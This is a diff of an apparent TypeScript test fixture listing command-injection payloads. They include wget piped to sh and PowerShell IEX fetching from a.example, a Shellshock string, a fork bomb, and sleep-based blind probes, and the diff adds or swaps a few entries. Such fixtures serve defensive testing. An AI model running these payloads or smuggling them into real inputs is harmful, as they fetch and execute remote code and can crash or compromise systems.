@@ -19,6 +19,7 @@ const attacks: readonly [what: string, text: string][] = [
   ['a quote in a sentence', 'nice call"; wget http://a.example/s -O- | sh; echo "'],
   ['a parenthesis', 'a);ls -la;'],
   ['a drive', '7; type C:\\windows\\system.ini'],
+  ['an expression of PowerShell', 'x;IEX(iwr http://a.example)'],
   ['a cmdlet', 'x;Invoke-WebRequest http://a.example'],
   ['a test', '"| [ 3 -eq $(echo abc | wc -c) ] || sleep 2 \\\\'],
   ['assignments', "'; a=$(hostname); b=${#a}; if [ 3 -eq ${b} ]; then sleep 2; fi"],
@@ -59,7 +60,7 @@ const forms: readonly [what: string, text: string][] = [
   ['a function in the environment', '() { :; }; /bin/id'],
   ['a fork bomb', 'f() { f | f & }; f'],
   ['a sum that proves a shell', 'print(`echo A$((3+4))B`)'],
-  ['a download that is run', 'IEX (New-Object Net.WebClient).DownloadString("http://a.example")'],
+  ['a script that nobody can read', 'powershell -nop -enc aGVsbG8gd29ybGQhIQ=='],
   ['a loop of cmd.exe', '& for /f "tokens=1" %a in (\'ver\') do echo %a'],
 ]
 
